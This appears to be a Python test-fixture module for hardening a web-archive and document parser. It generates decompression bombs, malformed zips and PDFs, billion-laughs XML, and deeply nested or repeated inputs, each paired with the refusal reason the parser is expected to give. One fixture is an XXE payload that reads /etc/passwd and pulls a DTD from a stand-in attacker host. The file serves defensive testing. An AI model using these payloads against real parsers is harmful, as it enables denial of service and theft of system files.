"""Small files that unpack, nest or repeat without end, one way each, with what may come of them."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from tests.hardening.seeds import MAIL_HEAD, PAGE, TEXT

MB = 1 << 20
_WARC = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:%032d>\r\nWARC-Target-URI: https://velm.example/%d\r\nContent-Type: application/http; msgtype=response\r\n"


class Bomb(NamedTuple):
    """``refused`` is an expression that a refusal's reason answers to, None where the file is taken."""

    make: Callable[[], bytes]
    refused: str | None = None


def _zeros(megabytes: int, letter: bytes = b"a") -> bytes:
    """So many megabytes of one letter, gzipped, without ever holding them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = letter * MB
    return b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()


def _record(body: bytes, number: int = 1, head: bytes = b"Content-Type: text/html\r\n") -> bytes:
    block = b"HTTP/1.1 200 OK\r\n" + head + b"\r\n" + body
    return _WARC % (number, number) + b"Content-Length: %d\r\n\r\n" % len(block) + block + b"\r\n\r\n"


def _many_records() -> bytes:
    one = gzip.compress(_record(b"<html><body><p>" + b"a" * (8 * MB)), 9, mtime=0)
    return one * 40


def _endless_header() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [packer.compress(b"WARC/1.0\r\nWARC-Type: response\r\nX-Long: ")]
    out += [packer.compress(b"a" * MB) for _ in range(400)]
    return b"".join(out) + packer.flush()


def _many_headers() -> bytes:
    return (
        b"WARC/1.0\r\nWARC-Type: response\r\n"
        + b"".join(b"X-%d: a\r\n" % i for i in range(300_000))
        + b"Content-Length: 0\r\n\r\n\r\n\r\n"
    )


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in members.items():
            packed.writestr(name, data)
    return out.getvalue()


def _zip_ratio() -> bytes:
    return _zip({"archive/a.warc": _record(b"<p>" + b"a" * (90 * MB))})


def _zip_lies() -> bytes:
    """A member that says that it is small."""
    made = bytearray(_zip({"archive/a.warc": _record(b"<p>" + b"a" * (90 * MB))}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = made.index(mark) + at
        made[start : start + 4] = struct.pack("<I", 1000)
    return bytes(made)


def _zip_overlaps() -> bytes:
    """Many names for one member."""
    made = _zip({"archive/0.warc": _record(b"<p>" + random.Random(1).randbytes(MB).hex().encode())})
    start, end = made.index(b"PK\x01\x02"), made.index(b"PK\x05\x06")
    entry, tail = made[start:end], bytearray(made[end:])
    entries = b"".join(entry.replace(b"archive/", b"%07d/" % i) for i in range(780))
    tail[8:20] = struct.pack("<HHII", 780, 780, len(entries), start)
    return made[:start] + entries + bytes(tail)


def _zip_members() -> bytes:
    return _zip({f"archive/{i}.warc": b"" for i in range(20_000)})


def pdf(*packings: bytes, body: bytes, filters: bytes | None = None) -> bytes:
    """A PDF of one page drawn by a stream with these filters, outermost first."""
    names = filters if filters is not None else b" ".join(packings)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (len(body), names, body),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (i, each) for i, each in enumerate(objects, 1))
    return out + b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n"


def _packed(megabytes: int, unit: bytes) -> bytes:
    packer = zlib.compressobj(9)
    piece = unit * (MB // len(unit))
    return b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()


def _pdf_letters() -> bytes:
    return pdf(b"/FlateDecode", body=_packed(200, b"BT /F1 10 Tf 60 700 Td (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj ET\n"))


def _pdf_nested() -> bytes:
    return pdf(b"/FlateDecode", b"/FlateDecode", body=zlib.compress(_packed(900, b" "), 9))


def _pdf_pages() -> bytes:
    """A tree of pages that has itself as a branch."""
    return (
        pdf(b"/FlateDecode", body=zlib.compress(b"BT ET"))
        .replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
        .replace(b"/Count 1", b"/Count 2000000000")
    )


def _feed(head: str, words: str) -> bytes:
    return (
        f'<?xml version="1.0"?>{head}<rss version="2.0"><channel><title>Velm Courier</title><item><title>Bridge</title>'
        f"<link>https://velm.example/1</link><description>{words}</description></item></channel></rss>"
    ).encode()


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return _feed(f'<!DOCTYPE rss [<!ENTITY l0 "ha">{entities}]>', "Why? &l9;")


def _one_long_entity() -> bytes:
    return _feed(f'<!DOCTYPE rss [<!ENTITY l "{"a" * 100_000}">]>', "Why? " + "&l;" * 20_000)


def _outside() -> bytes:
    head = (
        '<!DOCTYPE rss [<!ENTITY p SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://evil.invalid/x.dtd"> %d;]>'
    )
    return _feed(head, "The council of Velm said: &p; and no more.")


def _multipart(depth: int, lines: int) -> bytes:
    out = [MAIL_HEAD.encode()]
    for level in range(depth):
        out.append(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level))
    return b"".join(out) + b"Content-Type: text/plain\r\n\r\n" + b"a\r\n" * lines


def _parts() -> bytes:
    return (
        MAIL_HEAD.encode() + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--b\r\n\r\nwords\r\n" * 100_000
    )


def _mail(head: str, body: str = TEXT) -> bytes:
    return (head + MAIL_HEAD + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body).encode()


def _mhtml_deep() -> bytes:
    head = "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\n"
    body = "".join(f'Content-Type: multipart/related; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(500))
    return (head + body + "Content-Type: text/html\r\n\r\n" + "<p>a\r\n" * 100_000).encode()


def _in_page(words: str) -> bytes:
    return PAGE.replace("<h2>A long way round</h2>", words).encode()


BOMBS: dict[str, Bomb] = {
    # what unpacks
    "gzip": Bomb(lambda: _zeros(120), "200 times its size"),
    "gzip of gzip": Bomb(lambda: gzip.compress(_zeros(400), 9), "binary"),
    "many empty gzips": Bomb(lambda: gzip.compress(b"", mtime=0) * 200_000, "empty"),
    "warc in gzip": Bomb(lambda: gzip.compress(_record(b"<p>" + b"a" * (60 * MB)) * 3, 9), "200 times its size"),
    "warc of many gzips": Bomb(_many_records, "200 times its size"),
    "warc with a header without end": Bomb(_endless_header, "damaged"),
    "warc with headers without end": Bomb(_many_headers, "damaged"),
    "gzip in warc": Bomb(lambda: _record(_zeros(100), head=b"Content-Type: text/html\r\nContent-Encoding: gzip\r\n"), "unpacks to more"),
    "wacz": Bomb(_zip_ratio, "200 times its size"),
    "wacz that lies": Bomb(_zip_lies, "damaged"),
    "wacz of overlapping members": Bomb(_zip_overlaps, "damaged"),
    "wacz of many members": Bomb(_zip_members, "more than 10000 members"),
    "pdf of letters": Bomb(_pdf_letters, "unpacks to more|packed several"),
    "pdf packed twice": Bomb(_pdf_nested, "unpacks to more|packed several"),
    "pdf with a tree of pages in a circle": Bomb(_pdf_pages, "broken"),
    # what unfolds
    "billion laughs": Bomb(_laughs),
    "one long entity": Bomb(_one_long_entity, "XML of a kind"),
    "entities from outside": Bomb(_outside),
    # what nests
    "json": Bomb(lambda: b"[{}," + b"[" * 200_000, "JSON"),
    "json line": Bomb(lambda: b'{"text": "a b c"}\n{"text": ' + b"[" * 600 + b"]" * 600 + b'}\n{"text": "d e f"}\n', "empty"),
    "json array": Bomb(lambda: b'[{"text": "a b c"}, {"text": ' + b"[" * 900 + b"]" * 900 + b"}]", "empty|JSON"),
    "json object": Bomb(lambda: b'{"text": ' + b'{"name": ' * 900 + b'"x"' + b"}" * 901, "empty|JSON"),
    "json-ld": Bomb(lambda: PAGE.replace('"@graph":[', '"@graph":[' + "[" * 50_000).encode()),
    "json-ld in a list": Bomb(lambda: PAGE.replace('"headline":', '"headline":' + "[" * 450 + "]" * 450 + ',"name":').encode()),
    "html": Bomb(lambda: _in_page("<div>" * 100_000)),
    "html in line": Bomb(lambda: _in_page("<b><i>" * 50_000)),
    "tables": Bomb(lambda: _in_page("<table><tr><td>" * 20_000)),
    "lists": Bomb(lambda: _in_page("<ul><li>" * 20_000)),
    "multipart": Bomb(lambda: _multipart(5000, 10), "too many parts"),
    "multipart of many lines": Bomb(lambda: _multipart(800, 300_000), "too many parts"),
    "many parts": Bomb(_parts),
    "mhtml": Bomb(_mhtml_deep, "too many parts"),
    # what repeats
    "open items": Bomb(lambda: b"<rss><channel>" + b"<item>" * 300_000, "item"),
    "comments behind a feed": Bomb(lambda: _feed("", "Words of Velm.") + b"<!---->" * 500 + b"x", "cut off"),
    "attributes": Bomb(lambda: _in_page("<p " + "".join(f"a{i}=1 " for i in range(60_000)) + ">x</p>")),
    "open tags": Bomb(lambda: _in_page("<a " * 100_000)),
    "open comments": Bomb(lambda: _in_page("<!--" * 100_000)),
    "ampersands": Bomb(lambda: _in_page("&" * 300_000)),
    "paragraphs": Bomb(lambda: _in_page("<p>" * 300_000)),
    "line breaks": Bomb(lambda: _in_page("<br>" * 200_000)),
    "columns": Bomb(lambda: b"text," + b"a," * 200_000 + b"b\n" + b"words," * 200_001 + b"x\n", None),
    "header of brackets": Bomb(lambda: _mail("Reply-To: " + "(" * 100_000 + "\r\n")),
    "sender of brackets": Bomb(lambda: MAIL_HEAD.replace("<news@", "(" * 30_000 + "<news@").encode() + b"\r\n" + TEXT.encode()),
    "subject of encoded words": Bomb(lambda: MAIL_HEAD.replace("=?utf-8?B?VmVsbSBnaXZlcyB1cA==?=", "=?utf-8?q?a?= " * 20_000).encode() + b"\r\n" + TEXT.encode()),
    "senders": Bomb(lambda: MAIL_HEAD.replace("From: Velm Courier", "From: " + "a <a@velm.example>, " * 20_000).encode() + b"\r\n" + TEXT.encode()),
    "date of digits": Bomb(lambda: MAIL_HEAD.replace("Mon, 6 Dec", "Mon, " + "6" * 100_000 + " Dec").encode() + b"\r\n" + TEXT.encode()),
    "one word": Bomb(lambda: b"a" * (3 * MB)),
    "one line": Bomb(lambda: b"Words and words, " * 200_000),
    "digits": Bomb(lambda: TEXT.encode() + b"1" * 300_000),
    "numbers": Bomb(lambda: TEXT.encode() + b"1,2.3-4/5 " * 40_000),
    "stops": Bomb(lambda: TEXT.encode() + b". " * 200_000),
    "quotes": Bomb(lambda: TEXT.encode() + "“".encode() * 100_000),
    "brackets": Bomb(lambda: TEXT.encode() + b"((((" * 50_000),
    "hyphens": Bomb(lambda: TEXT.encode() + b"a-" * 100_000),
    "blanks": Bomb(lambda: TEXT.encode() + b" " * 400_000 + b"x"),
    "line ends": Bomb(lambda: TEXT.encode() + b"\n" * 400_000 + b"x"),
    "addresses": Bomb(lambda: TEXT.encode() + b"https://velm.example/a " * 20_000),
    "bylines": Bomb(lambda: TEXT.encode() + b"\nBy Per Lind and Ada Novak, " * 10_000),
    "capitals": Bomb(lambda: TEXT.encode() + b"Velm Courier Per Lind " * 15_000),
    "dates": Bomb(lambda: TEXT.encode() + b"6 December 2021, " * 15_000),
    "marks of lists": Bomb(lambda: TEXT.encode() + b"\n- a" * 60_000),
    "links": Bomb(lambda: TEXT.encode() + b"[a](b) " * 40_000),
    "open links": Bomb(lambda: TEXT.encode() + b"[" * 200_000),
    "marks that join": Bomb(lambda: TEXT.encode() + "\u0301".encode() * 200_000),
}  # fmt: skip
